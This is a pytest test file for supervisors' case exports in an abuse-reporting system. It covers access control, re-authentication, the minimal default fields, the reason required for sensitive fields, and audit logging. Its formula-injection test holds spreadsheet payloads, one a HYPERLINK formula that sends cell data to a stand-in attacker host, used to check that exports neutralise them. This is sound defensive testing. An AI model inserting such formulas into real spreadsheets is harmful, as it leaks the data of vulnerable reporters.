"""Supervisors' case-list exports: who may, what goes in, what the audit trail keeps."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re

import pytest
from sqlalchemy import select

from cases import audit, exports
from cases.models import Case, Event
from storage import db
from storage.types import Sealed
from tests.helpers import PASSWORD, HtmlPage, age_session, page, set_case, xlsx_sheets

URL = "/staff/supervise/export"
DEFAULT_FORM = {"export-fields": list(exports.DEFAULT_FIELDS), "export-format": "csv"}
SECRET = "The guard at the second gate beat my brother on Tuesday night."
REASON = "The prosecutor's office asked for the narratives of these torture cases."


@pytest.fixture
def supervisor(staff):
    return staff("supervisor")


def exported_events() -> list[Event]:
    return list(
        db.session.scalars(
            select(Event)
            .where(Event.chain_id == audit.SYSTEM_CHAIN, Event.action == "cases_exported")
            .order_by(Event.id)
            .execution_options(populate_existing=True)
        )
    )


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, page(response)[:2000]
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def xlsx_rows(data: bytes) -> list[list[str]]:
    """The cells of the first sheet as text, and no formula anywhere."""
    return next(iter(xlsx_sheets(data).values()))


def test_case_workers_cannot_export(staff, make_case):
    make_case()
    client, _user = staff("caseworker", ["general"])
    assert client.get(URL, query_string={"queue": "general"}).status_code == 403
    assert client.post(URL, query_string={"queue": "general"}, data=DEFAULT_FORM).status_code == 403
    assert exported_events() == []


def test_an_export_asks_for_the_password_again_and_comes_back_with_the_filter(supervisor, make_case):
    make_case()
    client, me = supervisor
    age_session(me)
    gate = client.get(URL, query_string={"queue": "general", "status": "all"})
    assert gate.status_code == 302 and "/staff/admin/reauth?next=" in gate.headers["Location"]
    posted = client.post(URL, query_string={"queue": "general", "status": "all"}, data=DEFAULT_FORM)
    assert posted.status_code == 302 and "/staff/admin/reauth" in posted.headers["Location"]
    assert exported_events() == []  # nothing was handed out

    back = client.post(gate.headers["Location"], data={"password": PASSWORD})
    assert back.status_code == 302 and back.headers["Location"].endswith(f"{URL}?queue=general&status=all")
    form = client.get(back.headers["Location"])
    assert form.status_code == 200 and "Any status" in page(form)


def test_the_form_ticks_the_minimal_fields_and_no_sensitive_one(supervisor):
    client, _me = supervisor
    form = HtmlPage(
        client.get(URL, query_string={"queue": "general", "category": "other", "overdue": "1"}).get_data(as_text=True)
    )
    assert form.values["export-fields"] == list(exports.DEFAULT_FIELDS)
    assert "export-sensitive" not in form.values
    assert form.value("export-format") == "csv"
    # The form posts back to the same cases: the queue and filter are in its address.
    assert f"{URL}?queue=general&overdue=1&category=other" in form.urls


def test_the_default_export_has_no_narrative_place_or_contact(supervisor, make_case):
    filed = make_case(
        narrative=SECRET, place_description="Behind the bakery on Abai street", contact_email="me@example.org"
    )
    client, me = supervisor
    response = client.post(URL, query_string={"queue": "general"}, data=DEFAULT_FORM)
    rows = csv_rows(response)
    assert rows[0] == [f.title for f in exports.FIELDS if not f.sensitive]
    assert [r[0] for r in rows[1:]] == [filed.case.reference]
    assert rows[1][rows[0].index("Queue")] == "General intake"
    text = response.data.decode("utf-8-sig")
    for secret in (SECRET, "bakery", "me@example.org"):
        assert secret not in text

    (event,) = exported_events()
    details = json.loads(event.details)
    assert event.actor_id == me.id and event.new_value == "general" and event.reason is None
    assert details == {
        "queue": "general",
        "filter": "",
        "fields": list(exports.DEFAULT_FIELDS),
        "format": "csv",
        "rows": 1,
        "bytes": len(response.data),
        "sha256": hashlib.sha256(response.data).hexdigest(),
    }


def test_sensitive_fields_without_a_reason_are_refused_and_the_choices_kept(supervisor, make_case):
    make_case(narrative=SECRET)
    client, _me = supervisor
    chosen = {"export-fields": ["reference", "status"], "export-sensitive": ["narrative"], "export-format": "xlsx"}
    response = client.post(URL, query_string={"queue": "general"}, data={**chosen, "export-reason": "because"})
    assert response.status_code == 422
    text = page(response)
    assert "Say why this export needs what reporters wrote or their contact (at least 15 characters)." in text
    assert SECRET not in text
    form = HtmlPage(response.get_data(as_text=True))
    assert form.values["export-fields"] == ["reference", "status"]
    assert form.values["export-sensitive"] == ["narrative"]
    assert form.value("export-format") == "xlsx" and form.value("export-reason") == "because"
    assert exported_events() == []


def test_with_a_reason_the_narrative_is_in_the_file_and_the_reason_in_the_event(supervisor, make_case):
    filed = make_case(narrative=SECRET)
    client, _me = supervisor
    data = {"export-fields": ["reference"], "export-sensitive": ["narrative"], "export-format": "csv"}
    response = client.post(URL, query_string={"queue": "general"}, data={**data, "export-reason": REASON})
    rows = csv_rows(response)
    assert rows == [["Reference", "What happened (the reporter's words)"], [filed.case.reference, SECRET]]
    (event,) = exported_events()
    assert event.reason == REASON
    assert json.loads(event.details)["fields"] == ["reference", "narrative"]
    assert json.loads(event.details)["sha256"] == hashlib.sha256(response.data).hexdigest()


def test_only_the_cases_the_filter_shows_are_exported(supervisor, make_case):
    wanted = make_case(region="almaty").case
    make_case(region="astana")  # another region
    make_case(category="torture", region="almaty")  # another queue
    closed = make_case(region="almaty").case
    set_case(closed.id, status="closed", is_open=False)
    client, _me = supervisor
    query = {"queue": "general", "region": "almaty", "sort": "age"}
    rows = csv_rows(client.post(URL, query_string=query, data={**DEFAULT_FORM, "export-fields": ["reference"]}))
    assert rows[1:] == [[wanted.reference]]
    everything = csv_rows(
        client.post(URL, query_string={"status": "all"}, data={**DEFAULT_FORM, "export-fields": ["reference"]})
    )
    assert len(everything) == 1 + 4  # all queues, any status
    events = exported_events()
    assert json.loads(events[0].details)["filter"] == "region=almaty&sort=age"
    assert json.loads(events[0].details)["rows"] == 1
    assert events[1].new_value == "*" and json.loads(events[1].details)["queue"] is None


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click") what happened', "+1 rang me at night", "@SUM(A1:A9) again"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_in_what_reporters_wrote_arrive_as_text(supervisor, make_case, fmt):
    for text in FORMULAS:
        make_case(narrative=text, place_description="-2+3 by the road")
    client, _me = supervisor
    data = {
        "export-fields": ["reference"],
        "export-sensitive": ["narrative", "place_description"],
        "export-format": fmt,
        "export-reason": REASON,
    }
    response = client.post(URL, query_string={"queue": "general"}, data=data)
    assert response.status_code == 200
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response.data)
    assert [r[1] for r in rows[1:]] == ["'" + t for t in FORMULAS]
    assert {r[2] for r in rows[1:]} == {"'-2+3 by the road"}
    assert json.loads(exported_events()[0].details)["sha256"] == hashlib.sha256(response.data).hexdigest()


def test_an_xlsx_export_holds_the_same_cells_as_the_csv(supervisor, make_case):
    for n in range(3):
        make_case(region=("almaty", "astana", "shymkent")[n])
    client, _me = supervisor
    as_csv = csv_rows(client.post(URL, query_string={"queue": "general"}, data=DEFAULT_FORM))
    response = client.post(URL, query_string={"queue": "general"}, data={**DEFAULT_FORM, "export-format": "xlsx"})
    assert response.mimetype == exports.MIMETYPES["xlsx"]
    assert re.search(r"filename=shagym-cases-general-[\d-]+\.xlsx", response.headers["Content-Disposition"])
    assert xlsx_rows(response.data) == as_csv


def test_an_export_reads_batch_after_batch(supervisor, make_case, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_BATCH", 3)
    references = [make_case().case.reference for _ in range(7)]
    client, _me = supervisor
    rows = csv_rows(
        client.post(URL, query_string={"queue": "general"}, data={**DEFAULT_FORM, "export-fields": ["reference"]})
    )
    assert [r[0] for r in rows[1:]] == references  # each once, in the order received
    assert json.loads(exported_events()[0].details)["rows"] == 7


def test_more_cases_than_allowed_are_refused_with_a_message(app, supervisor, make_case):
    for _ in range(3):
        make_case()
    app.config["EXPORT_MAX_ROWS"] = 2
    client, _me = supervisor
    response = client.post(URL, query_string={"queue": "general"}, data=DEFAULT_FORM)
    assert response.status_code == 422
    assert "More than 2 cases match; narrow the filters and export again." in page(response)
    assert exported_events() == []


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"export-format": "csv"}, "Choose at least one field."),
        ({"export-fields": ["reference", "receipt_hash"], "export-format": "csv"}, "Choose the fields from the list."),
        ({"export-fields": ["reference"], "export-format": "pdf"}, "Choose CSV or XLSX."),
        (
            {"export-fields": ["reference"], "export-format": "csv", "export-reason": "x" * 501},
            "at most 500 characters",
        ),
    ],
    ids=["no field", "unknown field", "unknown format", "long reason"],
)
def test_a_bad_choice_is_refused_with_a_message(supervisor, make_case, data, message):
    make_case()
    client, _me = supervisor
    response = client.post(URL, query_string={"queue": "general"}, data=data)
    assert response.status_code == 422 and message in page(response)
    assert exported_events() == []


def test_an_unknown_queue_is_not_found_and_bad_filter_values_are_ignored(supervisor, make_case):
    make_case()
    client, _me = supervisor
    assert client.get(URL, query_string={"queue": "no-such-queue"}).status_code == 404
    odd = {"queue": "general", "status": "nope", "priority": "9", "assignee": "-1", "category": "<x>"}
    rows = csv_rows(client.post(URL, query_string=odd, data=DEFAULT_FORM))
    assert len(rows) == 2
    assert json.loads(exported_events()[0].details)["filter"] == ""


def test_the_queue_page_links_supervisors_to_the_export_with_its_filter(staff):
    supervisor, _me = staff("supervisor")
    links = HtmlPage(supervisor.get("/staff/queues/general?region=almaty").get_data(as_text=True)).links
    assert (f"{URL}?queue=general&region=almaty", "Export these cases") in links
    worker, _w = staff("caseworker", ["general"])
    assert "Export these cases" not in page(worker.get("/staff/queues/general"))


def test_unticked_sealed_fields_are_never_decrypted(supervisor, make_case, monkeypatch):
    make_case(narrative=SECRET, contact_email="me@example.org")
    client, _me = supervisor
    opened = []
    original = Sealed.__get__

    def spy(self, obj, cls=None):
        if isinstance(obj, Case):
            opened.append(self.name)
        return original(self, obj, cls)

    monkeypatch.setattr(Sealed, "__get__", spy)
    csv_rows(client.post(URL, query_string={"queue": "general"}, data=DEFAULT_FORM))
    assert opened == []
    data = {**DEFAULT_FORM, "export-sensitive": ["contact_email"], "export-reason": REASON}
    csv_rows(client.post(URL, query_string={"queue": "general"}, data=data))
    assert opened == ["contact_email"]
